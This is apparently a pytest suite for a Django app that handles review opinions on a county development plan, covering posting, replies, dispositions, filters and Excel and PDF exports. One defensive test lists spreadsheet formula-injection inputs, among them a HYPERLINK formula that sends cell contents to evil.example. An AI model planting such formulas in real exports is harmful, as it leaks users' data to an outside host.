"""Opinions (意见): posted on a node, answered by the planning office, summarised
in a filtered list, an Excel workbook and a PDF."""

import io
import re
from urllib.parse import quote

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from apps.exports.exporters import OPINIONS_PDF, OUTLINE_PDF
from apps.exports.models import ExportJob
from apps.exports.services import export_request, export_run
from apps.notifications.models import Notification
from apps.plans.models import Document
from apps.review import actions
from apps.review.models import Opinion
from tests import factories as f

Disposition = Opinion.Disposition


@pytest.fixture
def finance(reviewer):
    return reviewer.memberships.get().department


@pytest.fixture
def node(plan, edu_department, finance):
    node = plan.outline.nodes.get(key="task_livelihood")
    node.lead_department = edu_department
    node.set_body("<p>新建改扩建中小学校15所，新增学位1.2万个。</p>")
    node.save()
    node.reviewing_departments.set([finance])
    return node


def _node_url(node):
    return reverse("node_edit", args=[node.document_id, node.pk])


def _opinion(node, author, department, text, **kwargs):
    return actions.opinion_add(node, actor=author, department=department, text=text, **kwargs)


# Posting -------------------------------------------------------------------------


def test_a_reviewer_posts_an_opinion_with_a_quote(client, node, reviewer, finance):
    client.force_login(reviewer)
    response = client.post(
        reverse("opinion_create", args=[node.document_id, node.pk]),
        {
            "quote": "新增学位1.2万个",
            "text": "建议核实新增学位数与学龄人口预测是否匹配。",
            "department": finance.pk,
        },
    )
    opinion = Opinion.objects.get()
    assert response.status_code == 302
    assert response.url == f"{_node_url(node)}#opinion-{opinion.pk}"
    assert (opinion.node, opinion.author, opinion.department) == (node, reviewer, finance)
    assert opinion.stage == Document.Stage.RESEARCH
    assert opinion.quote == "新增学位1.2万个"
    assert opinion.disposition == Disposition.PENDING

    page = client.get(_node_url(node)).content.decode()
    assert f'id="opinion-{opinion.pk}"' in page
    assert "建议核实新增学位数与学龄人口预测是否匹配。" in page
    assert re.search(r'<blockquote class="opinion-quote">\s*新增学位1.2万个\s*</blockquote>', page)
    assert "财政局" in page
    assert "待处理" in page


def test_an_empty_opinion_shows_the_node_page_again_with_the_quote_kept(
    client, node, reviewer, finance
):
    client.force_login(reviewer)
    response = client.post(
        reverse("opinion_create", args=[node.document_id, node.pk]),
        {"quote": "新建改扩建中小学校15所", "text": "   ", "department": finance.pk},
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "这个字段是必填项" in page
    assert "新建改扩建中小学校15所</textarea>" in page
    assert "“十四五”" in page or node.title in page  # still the node's page
    assert not Opinion.objects.exists()


def test_an_opinion_of_a_user_in_two_departments_names_the_chosen_one(client, node, reviewer):
    health = f.DepartmentFactory(county=node.plan.county, name="卫生健康局")
    f.MembershipFactory(user=reviewer, county=node.plan.county, department=health, role="reviewer")
    client.force_login(reviewer)
    response = client.post(
        reverse("opinion_create", args=[node.document_id, node.pk]),
        {"text": "建议补充医教协同的内容。", "department": health.pk},
    )
    assert response.status_code == 302
    assert Opinion.objects.get().department == health


def test_an_opinion_cannot_be_posted_in_the_name_of_another_department(
    client, node, reviewer, edu_department
):
    client.force_login(reviewer)
    client.post(
        reverse("opinion_create", args=[node.document_id, node.pk]),
        {"text": "冒名的意见。", "department": edu_department.pk},
    )
    assert Opinion.objects.filter(department=edu_department).count() == 0


# Replies ----------------------------------------------------------------------------


def test_replies_form_a_thread_under_the_opinion(client, node, reviewer, finance, drafter):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    client.force_login(drafter)
    response = client.post(
        reverse("opinion_reply", args=[node.document_id, opinion.pk]),
        {"text": "学前教育已在第三段补充。"},
    )
    assert response.status_code == 302
    assert response.url == f"{_node_url(node)}#opinion-{opinion.pk}"
    client.force_login(reviewer)
    client.post(
        reverse("opinion_reply", args=[node.document_id, opinion.pk]), {"text": "收到，同意。"}
    )

    reply_1, reply_2 = opinion.replies.order_by("id")
    assert (reply_1.author, reply_1.department.name) == (drafter, "教育局")
    assert reply_2.author == reviewer
    assert Opinion.objects.threads().count() == 1

    page = client.get(_node_url(node)).content.decode()
    article = page[page.index(f'id="opinion-{opinion.pk}"') :]
    article = article[: article.index("</article>")]
    assert "建议补充学前教育的内容。" in article
    assert article.index("学前教育已在第三段补充。") < article.index("收到，同意。")
    assert 'class="opinion-reply' in article


def test_an_empty_reply_is_refused_with_a_message(client, node, reviewer, finance, drafter):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    client.force_login(drafter)
    response = client.post(
        reverse("opinion_reply", args=[node.document_id, opinion.pk]), {"text": ""}, follow=True
    )
    assert "回复内容不能为空。" in response.content.decode()
    assert not opinion.replies.exists()


def test_a_leader_reads_opinions_but_cannot_post_or_reply(client, node, reviewer, finance, leader):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    client.force_login(leader)
    page = client.get(_node_url(node)).content.decode()
    assert "建议补充学前教育的内容。" in page
    assert reverse("opinion_create", args=[node.document_id, node.pk]) not in page

    reply = client.post(
        reverse("opinion_reply", args=[node.document_id, opinion.pk]), {"text": "领导批示。"}
    )
    create = client.post(
        reverse("opinion_create", args=[node.document_id, node.pk]), {"text": "领导意见。"}
    )
    assert (reply.status_code, create.status_code) == (403, 403)
    assert Opinion.objects.count() == 1


def test_an_outsider_cannot_post_on_another_countys_plan(client, node, outsider):
    client.force_login(outsider)
    response = client.post(
        reverse("opinion_create", args=[node.document_id, node.pk]), {"text": "邻县的意见。"}
    )
    assert response.status_code == 404
    assert not Opinion.objects.exists()


# Disposing -------------------------------------------------------------------------


def _dispose_url(opinion):
    return reverse("opinion_dispose", args=[opinion.document_id, opinion.pk])


def test_adopting_needs_no_reason(client, node, reviewer, finance, coordinator):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    client.force_login(coordinator)
    response = client.post(_dispose_url(opinion), {"disposition": "adopted", "reason": ""})
    assert response.status_code == 302
    assert response.url == reverse("opinion_list", args=[node.document_id])
    opinion.refresh_from_db()
    assert opinion.disposition == Disposition.ADOPTED
    assert opinion.disposed_by == coordinator
    assert opinion.disposed_at is not None


@pytest.mark.parametrize("disposition", ["partly_adopted", "not_adopted"])
def test_partly_or_not_adopting_without_a_reason_is_refused(
    client, node, reviewer, finance, coordinator, disposition
):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    client.force_login(coordinator)
    response = client.post(_dispose_url(opinion), {"disposition": disposition, "reason": "  "})
    assert response.status_code == 200
    assert "部分采纳或不采纳时，请写明理由。" in response.content.decode()
    opinion.refresh_from_db()
    assert opinion.disposition == Disposition.PENDING
    assert opinion.disposed_by is None and opinion.disposed_at is None
    assert not Notification.objects.filter(kind=Notification.Kind.DISPOSITION).exists()


def test_not_adopting_with_a_reason_is_saved_and_the_author_told(
    client, node, reviewer, finance, coordinator, django_capture_on_commit_callbacks
):
    opinion = _opinion(node, reviewer, finance, "建议将新增学位提高到2万个。")
    client.force_login(coordinator)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            _dispose_url(opinion),
            {"disposition": "not_adopted", "reason": "学龄人口预测不支持，维持1.2万个。"},
        )
    assert response.status_code == 302
    opinion.refresh_from_db()
    assert opinion.disposition == Disposition.NOT_ADOPTED
    assert opinion.reason == "学龄人口预测不支持，维持1.2万个。"
    assert opinion.disposed_by == coordinator

    note = Notification.objects.get(kind=Notification.Kind.DISPOSITION)
    assert note.recipient == reviewer
    assert "不采纳" in note.title
    assert "学龄人口预测不支持" in note.body

    page = client.get(_node_url(node)).content.decode()
    assert "处理说明：学龄人口预测不支持，维持1.2万个。" in page
    assert "不采纳" in page


def test_only_the_coordinator_disposes(client, node, reviewer, finance, drafter):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    client.force_login(drafter)
    response = client.post(_dispose_url(opinion), {"disposition": "adopted", "reason": ""})
    assert response.status_code == 403
    opinion.refresh_from_db()
    assert opinion.disposition == Disposition.PENDING


def test_a_reply_cannot_be_disposed_on_its_own(client, node, reviewer, finance, coordinator):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    reply = _opinion(node, coordinator, None, "请教育局研究。", parent=opinion)
    client.force_login(coordinator)
    response = client.post(_dispose_url(reply), {"disposition": "adopted", "reason": ""})
    assert response.status_code == 404


# The list and its filters ------------------------------------------------------------


@pytest.fixture
def spread(node, plan, reviewer, finance, drafter, edu_department, coordinator):
    """Five opinions that differ in department, node, disposition, stage and round."""
    other_node = plan.outline.nodes.get(key="environment")
    a = _opinion(node, reviewer, finance, "意见甲：财政保障要写实。")
    b = _opinion(other_node, drafter, edu_department, "意见乙：发展环境补充人口变化。")
    actions.opinion_dispose(b, actor=coordinator, disposition="adopted", reason="")
    actions.node_submit(node, actor=drafter)  # round 1 of the node
    c = _opinion(node, reviewer, finance, "意见丙：第一轮会签中提出。")
    actions.opinion_dispose(c, actor=coordinator, disposition="not_adopted", reason="已有安排。")
    # The stage itself moves through the stage page (test_versions); here only the
    # opinion's record of it matters.
    Document.objects.filter(pk=plan.outline.pk).update(stage=Document.Stage.APPROACH)
    plan.refresh_from_db()
    d = _opinion(other_node, reviewer, finance, "意见丁：基本思路阶段提出。")
    return {"a": a, "b": b, "c": c, "d": d, "node": node, "other_node": other_node}


TEXTS = {
    "a": "意见甲",
    "b": "意见乙",
    "c": "意见丙",
    "d": "意见丁",
}


def _shown(page: str) -> set[str]:
    return {key for key, text in TEXTS.items() if text in page}


def test_the_list_shows_every_opinion_and_counts_per_disposition(client, spread, coordinator):
    client.force_login(coordinator)
    page = client.get(reverse("opinion_list", args=[spread["node"].document_id])).content.decode()
    assert _shown(page) == {"a", "b", "c", "d"}
    text = re.sub(r"\s+", " ", page)
    assert "待处理 2" in text
    assert "采纳 1" in text
    assert "部分采纳 0" in text
    assert "不采纳 1" in text


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        (lambda s, fin, edu: {"department": fin.pk}, {"a", "c", "d"}),
        (lambda s, fin, edu: {"department": edu.pk}, {"b"}),
        (lambda s, fin, edu: {"node": s["node"].pk}, {"a", "c"}),
        (lambda s, fin, edu: {"disposition": "adopted"}, {"b"}),
        (lambda s, fin, edu: {"disposition": "pending"}, {"a", "d"}),
        (lambda s, fin, edu: {"stage": "approach"}, {"d"}),
        (lambda s, fin, edu: {"stage": "research"}, {"a", "b", "c"}),
        (lambda s, fin, edu: {"round": 1}, {"c"}),
        (lambda s, fin, edu: {"round": 0}, {"a", "b", "d"}),
        (lambda s, fin, edu: {"department": fin.pk, "stage": "research"}, {"a", "c"}),
    ],
)
def test_the_list_filters(client, spread, coordinator, finance, edu_department, params, expected):
    client.force_login(coordinator)
    url = reverse("opinion_list", args=[spread["node"].document_id])
    response = client.get(url, params(spread, finance, edu_department))
    assert response.status_code == 200
    assert _shown(response.content.decode()) == expected


def test_a_filter_that_matches_nothing_says_so(client, spread, coordinator):
    client.force_login(coordinator)
    url = reverse("opinion_list", args=[spread["node"].document_id])
    page = client.get(url, {"disposition": "partly_adopted"}).content.decode()
    assert _shown(page) == set()
    assert "没有符合条件的意见。" in page


def test_the_list_counts_replies_but_does_not_list_them(client, node, reviewer, finance, drafter):
    opinion = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    _opinion(node, drafter, None, "已补充。", parent=opinion)
    client.force_login(reviewer)
    page = client.get(reverse("opinion_list", args=[node.document_id])).content.decode()
    assert "1 条回复" in page
    assert "已补充。" not in page


def test_a_long_ledger_comes_a_page_at_a_time_and_keeps_the_filter(
    client, node, reviewer, finance, coordinator
):
    from apps.review.views.opinions import OPINIONS_PER_PAGE

    total = OPINIONS_PER_PAGE * 2 + 7
    for n in range(1, total + 1):
        _opinion(node, reviewer, finance, f"第{n:03d}条意见")
    client.force_login(coordinator)
    url = reverse("opinion_list", args=[node.document_id])
    first = client.get(url, {"disposition": "pending"}).content.decode()
    assert "第001条意见" in first and f"第{OPINIONS_PER_PAGE:03d}条意见" in first
    assert f"第{OPINIONS_PER_PAGE + 1:03d}条意见" not in first
    assert f"共 {total} 条" in first
    # The page links keep the filter, and the numbering goes on across pages.
    assert "?disposition=pending&amp;page=3" in first
    last = client.get(url, {"disposition": "pending", "page": 3}).content.decode()
    assert f"第{total:03d}条意见" in last and "第001条意见" not in last
    assert f"<td>{total}</td>" in last
    # A page number that does not exist shows the last page rather than an error.
    assert client.get(url, {"page": "99"}).status_code == 200
    assert client.get(url, {"page": "abc"}).status_code == 200


# Excel ---------------------------------------------------------------------------------


def _workbook(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_the_workbook_is_an_attachment_with_a_chinese_name(client, node, reviewer, finance):
    _opinion(node, reviewer, finance, "建议补充学前教育的内容。", quote="新增学位1.2万个")
    client.force_login(reviewer)
    response = client.get(reverse("opinions_xlsx", args=[node.document_id]))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    name = f"{node.plan.outline.title}意见采纳情况汇总表.xlsx"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=utf-8''{quote(name)}" in disposition
    assert "no-cache" in response["Cache-Control"] or "max-age=0" in response["Cache-Control"]


def test_the_workbook_has_the_summary_columns_and_rows(
    client, node, plan, reviewer, finance, coordinator, department
):
    first = _opinion(node, reviewer, finance, "建议补充学前教育的内容。", quote="新增学位1.2万个")
    _opinion(
        plan.outline.nodes.get(key="environment"), coordinator, department, "发展环境补充人口变化。"
    )
    actions.opinion_dispose(
        first, actor=coordinator, disposition="partly_adopted", reason="已部分补充。"
    )
    client.force_login(reviewer)
    sheet = _workbook(client.get(reverse("opinions_xlsx", args=[plan.outline.pk])))
    rows = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    assert rows[0][0] == f"{plan.outline.title}意见采纳情况汇总表"
    assert rows[1] == ("序号", "提出单位", "章节", "原文", "意见", "处理情况", "说明")
    assert rows[2][0] == 1
    assert rows[2][1] == "财政局"
    assert node.title in rows[2][2]
    assert rows[2][3:] == (
        "新增学位1.2万个",
        "建议补充学前教育的内容。",
        "部分采纳",
        "已部分补充。",
    )
    assert rows[3][0] == 2
    assert rows[3][1] == "发展和改革局"
    assert "发展环境" in rows[3][2]
    assert rows[3][4:6] == ("发展环境补充人口变化。", "待处理")
    assert len(rows) == 4


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
        "+1",
        "-1",
        "@SUM(A1:A2)",
        "\t=1+1",
    ],
)
def test_formula_like_opinions_come_out_as_text(client, node, reviewer, finance, text):
    _opinion(node, reviewer, finance, text, quote="=1+1")
    client.force_login(reviewer)
    sheet = _workbook(client.get(reverse("opinions_xlsx", args=[node.document_id])))
    quote_cell, text_cell = sheet.cell(row=3, column=4), sheet.cell(row=3, column=5)
    for cell, stored in ((quote_cell, "=1+1"), (text_cell, text.strip())):
        assert cell.data_type != "f"
        assert cell.value == "'" + stored


def test_the_workbook_follows_the_filters(client, spread, reviewer, finance):
    client.force_login(reviewer)
    url = reverse("opinions_xlsx", args=[spread["node"].document_id])
    sheet = _workbook(client.get(url, {"stage": "research", "department": finance.pk}))
    texts = [row[4].value for row in sheet.iter_rows(min_row=3)]
    assert texts == ["意见甲：财政保障要写实。", "意见丙：第一轮会签中提出。"]
    assert [row[0].value for row in sheet.iter_rows(min_row=3)] == [1, 2]


def test_the_workbook_of_another_county_is_not_found(client, node, reviewer, finance, outsider):
    _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    client.force_login(outsider)
    assert client.get(reverse("opinions_xlsx", args=[node.document_id])).status_code == 404


# PDF -----------------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)


def _pdf_text(job) -> str:
    with job.file.open("rb") as handle:
        reader = PdfReader(io.BytesIO(handle.read()))
    return re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))


def test_the_opinions_pdf_is_the_summary_table(node, plan, reviewer, finance, coordinator, media):
    first = _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    _opinion(node, reviewer, finance, "建议明确校舍安全改造任务。")
    actions.opinion_dispose(
        first, actor=coordinator, disposition="not_adopted", reason="另有专项规划。"
    )

    outcome = export_request(plan.outline, coordinator, OPINIONS_PDF)
    assert not outcome.reused
    export_run(outcome.job.pk)
    job = ExportJob.objects.get(pk=outcome.job.pk)
    assert job.status == ExportJob.Status.SUCCEEDED, job.error
    assert job.exporter == OPINIONS_PDF

    text = _pdf_text(job)
    assert "意见采纳情况汇总表" in text
    assert "建议补充学前教育的内容。" in text
    assert "建议明确校舍安全改造任务。" in text
    assert "不采纳" in text and "待处理" in text
    assert "另有专项规划。" in text


def test_the_opinions_pdf_is_reused_until_an_opinion_changes(
    node, plan, reviewer, finance, coordinator, media
):
    _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    job = export_request(plan.outline, coordinator, OPINIONS_PDF).job
    export_run(job.pk)

    again = export_request(plan.outline, coordinator, OPINIONS_PDF)
    assert again.reused and again.job.pk == job.pk

    _opinion(node, reviewer, finance, "再补充一条意见。")
    fresh = export_request(plan.outline, coordinator, OPINIONS_PDF)
    assert not fresh.reused and fresh.job.pk != job.pk


def test_a_plan_pdf_and_an_opinions_pdf_are_different_jobs(
    node, plan, reviewer, finance, coordinator
):
    _opinion(node, reviewer, finance, "建议补充学前教育的内容。")
    plan_job = export_request(plan.outline, coordinator, OUTLINE_PDF).job
    opinions_job = export_request(plan.outline, coordinator, OPINIONS_PDF).job
    assert plan_job.pk != opinions_job.pk
    assert opinions_job.download_name.endswith("意见采纳情况汇总表（前期研究）.pdf")
